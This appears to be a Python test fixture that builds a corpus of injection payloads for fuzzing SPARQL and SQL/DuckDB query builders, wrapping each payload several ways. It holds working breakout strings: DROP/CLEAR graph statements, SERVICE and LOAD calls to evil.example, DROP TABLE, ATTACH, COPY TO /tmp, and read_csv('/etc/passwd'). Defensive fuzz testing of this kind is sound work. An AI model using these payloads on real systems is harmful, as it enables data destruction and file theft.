"""A corpus of hostile strings for entity names, relation names, headers and row constraints.

Payloads aimed at SPARQL (literal, IRI and comment breakouts, updates, federated SERVICE calls,
unicode escapes) and at SQL/DuckDB (quotes, statement breaks, comments, ATTACH, COPY ... TO,
file readers, settings), each wrapped several ways (alone, after or before a real name, quoted,
in angle brackets). Written for these tests.
"""

from __future__ import annotations

SPARQL = [
    "> } ; DROP GRAPH <urn:readi:test:metaqa> ; SELECT * { ?s ?p ?o",
    '" } INSERT DATA { <urn:evil:a> <urn:evil:b> <urn:evil:c> } #',
    "' } ; CLEAR ALL ; #",
    '" . SERVICE <http://127.0.0.1:9/sparql> { ?s ?p ?o } } #',
    "SERVICE <http://127.0.0.1:9/sparql> { ?s ?p ?o }",
    "> . ?s ?p ?o } SERVICE <http://evil.example/sparql> { ?a ?b ?c } #",
    "# comment\n} LOAD <http://evil.example/x.ttl>",
    '"""} DELETE WHERE { ?s ?p ?o } #',
    "'''} DROP ALL #",
    "\\u0022 } DROP ALL #",
    "\\U00000022 } CLEAR DEFAULT #",
    '\u0022 } INSERT DATA { <urn:evil:x> <urn:evil:y> "z" } #',
    "<file:///etc/passwd>",
    "http://example.org/a> <http://example.org/b",
    "urn:x> } INSERT DATA { <urn:a> <urn:b> <urn:c> } #",
    "urn:readi:metaqa:entity:Joel%20Zwick> ?p ?o } #",
    '" ; WITH <urn:g> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o } #',
    "?x ?p ?y } UNION { ?y ?p ?x } #",
    '"@en } FILTER(false) #',
    '"^^<http://www.w3.org/2001/XMLSchema#string> } #',
    "\\",
    '\\"',
    '\\\\" } #',
    "}}}}}}",
    "{{{{{{",
    "<>",
    "<javascript:alert(1)>",
    "VALUES ?x { <urn:evil> }",
    "ADD <urn:a> TO <urn:b>",
    "COPY DEFAULT TO <urn:evil>",
    "CREATE GRAPH <urn:evil>",
]
SQL = [
    "'; DROP TABLE t; --",
    '" OR 1=1 --',
    "' OR '1'='1",
    "1); ATTACH '/tmp/readi_evil.db' AS evil; --",
    "ATTACH '/tmp/readi_evil.db' AS evil",
    "COPY t TO '/tmp/readi_pwned.csv'",
    "'; COPY (SELECT 1) TO '/tmp/readi_pwned.csv'; --",
    "read_csv('/etc/passwd')",
    "' UNION SELECT * FROM read_csv('/etc/passwd') --",
    "'); SELECT * FROM read_text('/etc/passwd'); --",
    "INSTALL httpfs; LOAD httpfs;",
    "SET enable_external_access=true",
    "'; SET enable_external_access=true; --",
    "PRAGMA database_list",
    "/* comment */ SELECT 1",
    'c0" FROM t; DROP TABLE t; --',
    "%",
    "_",
    "' ESCAPE '\\",
]
OTHER = [
    "nul\x00byte",
    "line\nbreak",
    "carriage\rreturn",
    "tab\there",
    "\u202eevil RTL override",
    "zero\u200bwidth",
    "emoji \U0001f4a5 bang",
    "x" * 5000,
    "",
    " ",
    "Joel Zwick",  # a real name, as a control
]
WRAPPERS = ["{p}", "Joel Zwick{p}", "{p}Joel Zwick", '"{p}"', "'{p}'", "<{p}>"]


def corpus() -> list[str]:
    """All payloads under every wrapper, distinct, in a fixed order."""
    strings = [w.format(p=p) for p in SPARQL + SQL + OTHER for w in WRAPPERS]
    return list(dict.fromkeys(strings))


CORPUS = corpus()
assert len(CORPUS) >= 200, len(CORPUS)
